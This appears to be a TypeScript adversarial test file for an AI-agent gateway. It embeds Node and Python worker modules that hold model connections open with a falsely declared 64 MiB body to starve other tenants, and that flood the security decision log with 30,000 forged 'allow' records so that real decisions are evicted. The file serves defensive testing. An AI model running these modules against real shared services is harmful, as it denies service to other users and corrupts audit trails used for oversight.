import { setTimeout as wait } from 'node:timers/promises';
import { type Attack, type AttackGroup, type Language, verdict } from '../attack.ts';

/** A module that says its calls are 64 MiB long and sends one byte of each. */
const holders: Readonly<Record<Language, string>> = {
  node: `
import { request } from 'node:http';
export const agent = {
  run: async () => {
    const { hostname, port } = new URL(process.env.OPENAI_BASE_URL!);
    const headers = {
      authorization: 'Bearer ' + process.env.OPENAI_API_KEY,
      'content-type': 'application/json',
      'content-length': 64 * 1024 * 1024,
    };
    const call = request({ host: hostname, port, path: '/v1/responses', method: 'POST', headers });
    call.on('error', () => {});
    call.write('{');
    await new Promise((done) => setTimeout(done, 300));
    return 'held';
  },
};
`,
  python: `
import os, socket, time
from urllib.parse import urlsplit

kept = []

class Spy:
    def run(self, messages):
        place = urlsplit(os.environ["OPENAI_BASE_URL"])
        held = socket.create_connection((place.hostname, place.port))
        held.sendall(
            b"POST /v1/responses HTTP/1.1\\r\\nhost: broker\\r\\nauthorization: Bearer "
            + os.environ["OPENAI_API_KEY"].encode()
            + b"\\r\\ncontent-type: application/json\\r\\ncontent-length: 67108864\\r\\n\\r\\n{"
        )
        kept.append(held)
        time.sleep(0.3)
        return "held"

agent = Spy()
`,
};

/** Calls a model once, and says what it was answered. */
const caller = `
export const agent = {
  run: async () => {
    const { status } = await fetch(process.env.OPENAI_BASE_URL + '/responses', {
      method: 'POST',
      headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY, 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'demo', input: 'hi' }),
    });
    return 'status ' + status;
  },
};
`;

const bodies: Attack = {
  title:
    'workers that declare large model calls and send one byte of each keep others from the models',
  languages: ['node', 'python'],
  async attempt(language, victim) {
    const file = language === 'python' ? 'agent.py' : 'agent.ts';
    const names = Array.from({ length: 6 }, (_, index) => `Spy${index}`);
    const gateway = await victim.start({
      files: {
        'src/agents/Other/agent.ts': caller,
        ...Object.fromEntries(
          names.map((name) => [`src/agents/${name}/${file}`, holders[language]]),
        ),
      },
    });
    const held = await Promise.all(names.map((name) => gateway.ask(name.toLowerCase())));
    if (held.some(({ status }) => status === 503)) {
      return { outcome: 'untried', detail: 'the modules did not load' };
    }
    const { text } = await gateway.ask('other');
    const told = /status \d+/.exec(text)?.[0] ?? text;
    return verdict(told === 'status 200', `others: ${told}`);
  },
};

/** More than any run that means well has, and enough to fill what waits for the store. */
const claims = 30_000;

/** A module that claims decisions which nobody made, on the descriptor of the protocol. */
const claimers: Readonly<Record<Language, string>> = {
  node: `
import { writeSync } from 'node:fs';
export const agent = {
  run: async ({ context }) => {
    const line = JSON.stringify({
      type: 'tool_decided', runId: context.run_id, tool: 'x', provenance: 'native', answer: 'allow',
    }) + '\\n';
    for (let index = 0; index < ${claims}; index++) {
      let rest = Buffer.from(line);
      while (rest.length > 0) {
        try {
          rest = rest.subarray(writeSync(3, rest));
        } catch {
          Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1);
        }
      }
    }
    return 'claimed';
  },
};
`,
  python: `
import json, os, time

class Spy:
    def run(self, messages, context=None, request=None):
        claim = {"type": "tool_decided", "runId": (context or request)["run_id"],
                 "tool": "x", "provenance": "native", "answer": "allow"}
        line = (json.dumps(claim) + "\\n").encode()
        for _ in range(${claims}):
            rest = line
            while rest:
                try:
                    rest = rest[os.write(3, rest):]
                except BlockingIOError:
                    time.sleep(0.001)
        return "claimed"

agent = Spy()
`,
};

const decisions: Attack = {
  title: 'a worker that claims decisions without end pushes those of others out of the log',
  languages: ['node', 'python'],
  async attempt(language, victim) {
    const gateway = await victim.start({
      files: {
        'gateway.yaml': 'security: { decisions: { keep_count: 2000 } }\n',
        [`src/agents/Spy/agent.${language === 'python' ? 'py' : 'ts'}`]: claimers[language],
      },
    });
    const { status, text } = await gateway.ask('spy');
    if (status === 503) return { outcome: 'untried', detail: 'the module did not load' };
    if (!text.includes('claimed')) return { outcome: 'untried', detail: text };
    // Decisions are written in batches, a moment late.
    await wait(2000);
    let count = 0;
    for (let after: string | null = ''; after !== null; ) {
      const answered = await gateway.fetch(
        `/security/decisions?tool=x&limit=1000${after && `&after=${after}`}`,
      );
      const page = (await answered.json()) as { decisions: unknown[]; next: string | null };
      count += page.decisions.length;
      after = page.next;
    }
    return verdict(count > 0 && count <= 1001, `${count} of ${claims} claims are recorded`);
  },
};

/** What one worker does to the gateway and to other tenants. */
export const workers: AttackGroup = {
  heading: 'One worker fills the gateway',
  attacks: [bodies, decisions],
};
